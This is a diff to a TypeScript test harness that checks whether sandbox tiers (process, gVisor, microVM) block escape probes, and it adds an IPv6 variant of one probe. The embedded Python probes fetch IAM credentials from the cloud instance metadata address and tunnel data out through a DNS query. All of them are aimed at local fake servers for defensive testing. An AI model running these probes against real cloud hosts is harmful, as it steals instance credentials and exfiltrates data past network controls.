@@ -14,7 +14,7 @@ import { GvisorSandbox } from '../../src/adapters/sandboxes/oci/open-gvisor-sand
 import { ProcessSandbox } from '../../src/adapters/sandboxes/process/open-process-sandbox.ts';
 import { systemClock } from '../../src/base/clock.ts';
 import { readyProfiles, type SandboxTier } from '../../src/model/profile.ts';
-import type { AttemptKind } from '../../src/ports/sandbox.ts';
+import type { EscapeAttempt } from '../../src/ports/sandbox.ts';
 import { GOT } from './probe.ts';
 
 export interface NetworkResult {
@@ -24,7 +24,7 @@ export interface NetworkResult {
   readonly got: boolean;
   /** Whether what was to be carried out has arrived. */
   readonly carried: boolean;
-  readonly noticed: readonly AttemptKind[];
+  readonly noticed: readonly Pick<EscapeAttempt, 'kind' | 'severity'>[];
 }
 
 const UP = `
@@ -36,10 +36,12 @@ address = lambda text: struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton
 call(0x8916, b'lo', address('127.0.0.1'))
 call(0x8914, b'lo', struct.pack('H14x', 0x49))
 call(0x8916, b'lo:1', address('169.254.169.254'))
+six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+fcntl.ioctl(six, 0x8916, struct.pack('16sIi', socket.inet_pton(socket.AF_INET6, 'fd00:ec2::254'), 128, 1))
 `;
-const METADATA = `
+const METADATA = (host: string) => `
 import urllib.request
-request = urllib.request.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
+request = urllib.request.Request('http://${host}/latest/meta-data/iam/security-credentials/')
 print('GOT', urllib.request.urlopen(request, timeout=20).read())`;
 const TUNNEL = `
 import socket
@@ -48,7 +50,11 @@ s.settimeout(20)
 name = b''.join(bytes([len(part)]) + part for part in [b'secret-words', b'out', b'example']) + b'\\0'
 s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\1\\0\\1', ('127.0.0.53', 53))
 print('GOT', s.recv(100))`;
-const probes = { 'asks the metadata service of a cloud': METADATA, 'carries words out in a name': TUNNEL };
+const probes = {
+  'asks the metadata service of a cloud': METADATA('169.254.169.254'),
+  'asks it by IPv6': METADATA('[fd00:ec2::254]'),
+  'carries words out in a name': TUNNEL,
+};
 
 const PATH = ['/usr/local/bin', '/usr/bin', '/bin', '/usr/sbin', '/sbin'];
 const isRoot = process.getuid?.() === 0;
@@ -57,10 +63,12 @@ if (code === undefined) throw new Error('`code` is a ready profile');
 
 execFileSync('/usr/bin/python3', ['-c', UP]);
 let carried = false;
-const metadata = createServer((_, response) => {
-  carried = true;
-  response.end('a-role');
-}).listen(80, '169.254.169.254');
+const metadata = ['169.254.169.254', 'fd00:ec2::254'].map((address) =>
+  createServer((_, response) => {
+    carried = true;
+    response.end('a-role');
+  }).listen(80, address),
+);
 const names = createSocket('udp4', (query, from) => {
   carried ||= query.includes('secret-words');
   names.send(query, from.port, from.address);
@@ -72,13 +80,13 @@ const sandboxes = {
   gvisor: () => new GvisorSandbox({ clock: systemClock, path: PATH, isRoot }),
   microvm: () =>
     new MicrovmSandbox({
-      ...{ clock: systemClock, path: PATH, isRoot, cacheFolder: join(tmpdir(), 'chaperone-machines') },
+      ...{ clock: systemClock, path: PATH, isRoot, cacheFolder: join(tmpdir(), 'chaperone', 'machines') },
       kernelRoot: process.env['CHAPERONE_KERNEL'] ?? '/',
     }),
 };
 const results: NetworkResult[] = [];
 for (const [probe, source] of Object.entries(probes)) {
-  const add = (where: string, stdout: string, noticed: readonly AttemptKind[]) => {
+  const add = (where: string, stdout: string, noticed: NetworkResult['noticed']) => {
     results.push({ probe, where, got: stdout.includes(GOT), carried, noticed });
     carried = false;
   };
@@ -98,11 +106,11 @@ for (const [probe, source] of Object.entries(probes)) {
     add(
       tier,
       stdout,
-      attempts.map(({ kind }) => kind),
+      attempts.map(({ kind, severity }) => ({ kind, severity })),
     );
     await sandbox.close();
   }
 }
-metadata.close();
+for (const server of metadata) server.close();
 names.close();
 process.stdout.write(JSON.stringify(results));
